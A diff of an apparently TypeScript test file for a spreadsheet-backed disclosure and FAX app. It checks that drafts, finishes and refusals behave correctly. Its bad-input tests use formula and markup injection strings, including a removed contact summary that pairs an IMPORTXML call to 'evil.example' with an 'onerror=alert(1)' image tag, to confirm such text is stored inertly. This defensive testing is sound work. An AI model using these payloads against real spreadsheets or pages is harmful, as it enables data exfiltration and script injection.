@@ -1,5 +1,6 @@
 // This file tests pre-checks, FAX log and doubts through the built bundle: as staff and as manager, in real cells.
 import type { UserInterface } from '../../local/contracts';
+import { FROM_PAGE } from '../../src/calls/reply';
 import type { DisclosureDesk, FinishDisclosureResult } from '../../src/rooms/disclosure/contract';
 import { completeAnswers } from '../support/disclosure-answers';
 import { callTwin, openTestTwin, type Twin } from '../support/twin';
@@ -16,6 +17,9 @@ beforeAll(async () => {
 }, 240_000);
 
 const call = <T>(name: string, ...args: unknown[]) => callTwin<T>(twin, name, ...args);
+/** As a page is told: every problem as data. */
+const refused = async (name: string, request: unknown) =>
+  (await callTwin<{ refused: { code: string; message: string }[] }>(twin, name, request, FROM_PAGE)).refused;
 const rows = (tab: string) => twin.workbook.tabRows(tab);
 const sums = (calls: Readonly<Record<string, number>>) =>
   Object.values(calls).reduce((total, count) => total + count, 0);
@@ -34,15 +38,15 @@ it('takes a pre-check from staff, finishes it, and registers the signed form', a
     [{ ...sent, answers: { CARD: answers['CARD'] } }],
     staff,
   );
-  expect(first.result).toMatchObject({ ok: true, revision: 1 });
+  expect(first.result).toMatchObject({ revision: 1 });
   const whole = await twin.call('saveDisclosureDraft', [{ ...sent, revision: 1, answers }], staff);
-  expect(whole.result).toMatchObject({ ok: true, revision: 2 });
+  expect(whole.result).toMatchObject({ revision: 2 });
   const again = await twin.call('saveDisclosureDraft', [{ ...sent, revision: 2, answers }], staff);
   // Constant: one answer or all of them.
   expect(sums(again.calls)).toBe(sums(whole.calls));
   const done = await twin.call('finishDisclosure', [{ ...sent, revision: 3, answers }], staff);
   expect(done.error).toBeUndefined();
-  expect(done.result as FinishDisclosureResult).toMatchObject({ ok: true, version: 1 });
+  expect(done.result as FinishDisclosureResult).toMatchObject({ version: 1 });
   const form = {
     memberKey: KEY,
     program: 'GH',
@@ -52,7 +56,6 @@ it('takes a pre-check from staff, finishes it, and registers the signed form', a
   };
   // The row as read back from its cells is what was finished: the hash holds.
   expect((await twin.call('registerOfficialForm', [form], staff)).result).toEqual({
-    ok: true,
     state: '告知完了',
   });
   expect(rows('告知回答')).toMatchObject([
@@ -83,7 +86,7 @@ it('stores markup and formulas as text', async () => {
     imageLink: 'https://files.example.jp/fax.pdf',
     remarks,
   };
-  expect(await call('recordFax', fax)).toEqual({ ok: true, faxNumber: 'F-2026-0001' });
+  expect(await call('recordFax', fax)).toEqual({ faxNumber: 'F-2026-0001' });
   expect(rows('FAX受信簿')).toMatchObject([{ 枚数: 3, 会員番号: 'D-001', 備考: remarks }]);
 });
 
@@ -152,7 +155,9 @@ describe('bad input', () => {
 
   it('refuses what no question takes, with its number, and keeps the draft that stands', async () => {
     const answers = { CARD: choice('no') };
-    expect(await call('saveDisclosureDraft', { ...sent, revision: 0, answers })).toMatchObject({ ok: true });
+    expect(await call('saveDisclosureDraft', { ...sent, revision: 0, answers })).toMatchObject({
+      revision: 1,
+    });
     const before = drafts();
     const long = '長'.repeat(100_000);
     const refusals = {
@@ -160,18 +165,14 @@ describe('bad input', () => {
       optionUnknown: { CARD: choice(`=HYPERLINK("x")<b>${long}`) },
       answerTooLong: { REV: { kind: 'revenue', text: long, fiscalMonth: '2026-03' } },
       questionUnknown: { '<script>': choice('yes') },
-      answerUnreadable: { CARD: long },
+      requestUnreadable: { CARD: long },
     };
     for (const [code, bad] of Object.entries(refusals)) {
-      const answer = await call<{ ok: boolean; problems: { code: string; message: string }[] }>(
-        'saveDisclosureDraft',
-        { ...sent, revision: 1, answers: bad },
-      );
-      expect([code, answer.ok]).toEqual([code, false]);
-      if (code === 'followUpClosed') continue;
-      expect(answer.problems.map((problem) => problem.code)).toEqual([code]);
+      const problems = await refused('saveDisclosureDraft', { ...sent, revision: 1, answers: bad });
+      if (code === 'followUpClosed') expect(problems.map((problem) => problem.code)).toContain(code);
+      else expect(problems.map((problem) => problem.code)).toEqual([code]);
       // A message is read by a person: it never carries a hundred thousand characters back.
-      expect(answer.problems[0]!.message.length).toBeLessThan(300);
+      expect(problems[0]!.message.length).toBeLessThan(300);
     }
     expect(drafts()).toEqual(before);
   });
@@ -179,25 +180,11 @@ describe('bad input', () => {
   it('a refused finish leaves the saved draft as it is', async () => {
     const before = drafts();
     const answers = { CARD: choice('no') };
-    const done = await call('finishDisclosure', { ...sent, revision: 1, answers });
-    expect(done).toMatchObject({ ok: false, problems: [{ code: 'preCheckUnanswered' }] });
+    const finish = await refused('finishDisclosure', { ...sent, revision: 1, answers });
+    expect(finish.map(({ code }) => code)).toEqual(['preCheckUnanswered']);
     expect(drafts()).toEqual(before);
-    expect(await call('saveDisclosureDraft', { ...sent, revision: 0, answers })).toMatchObject({
-      ok: false,
-      problems: [{ code: 'draftStale' }],
-      stored: { revision: 1 },
-    });
-  });
-
-  it('free text of a contact is a cell of text, whatever it looks like', async () => {
-    const entry = { memberKey: 'D-002/GH', channel: '電話', direction: '受信', entryId: 'bundle-0001' };
-    const summary = '=IMPORTXML("http://evil.example","//a")<img src=x onerror=alert(1)>';
-    expect(await call('recordContact', { ...entry, summary })).toMatchObject({ contacts: [{ summary }] });
-    await expect(
-      call('recordContact', { ...entry, entryId: 'bundle-0002', summary: '長'.repeat(100_000) }),
-    ).rejects.toThrow('2000文字以内');
-    expect(rows('対応履歴')).toMatchObject([{ 会員番号: 'D-002', 内容: summary }]);
-    expect(await call('openMember', { memberKey: 'D-002/GH' })).toMatchObject({ contacts: [{ summary }] });
+    const stale = await refused('saveDisclosureDraft', { ...sent, revision: 0, answers });
+    expect(stale.map(({ code }) => code)).toEqual(['draftStale']);
   });
 });
 
